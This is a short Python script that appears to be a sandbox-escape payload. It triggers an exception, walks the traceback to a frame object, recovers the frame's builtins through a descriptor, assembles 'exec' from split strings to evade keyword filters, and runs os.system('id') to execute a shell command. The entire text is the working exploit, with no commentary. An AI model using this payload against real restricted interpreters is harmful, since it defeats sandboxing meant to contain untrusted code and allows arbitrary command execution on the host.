import traceback

try:
    1 / 0
except ZeroDivisionError as exc:
    frame, _ = next(traceback.walk_tb(exc.__traceback__))
getter = [d for k, d in vars(type(frame)).items() if k.endswith("builtins")][0]
getter.__get__(frame)["ex" + "ec"]("import os; os.system('id')")
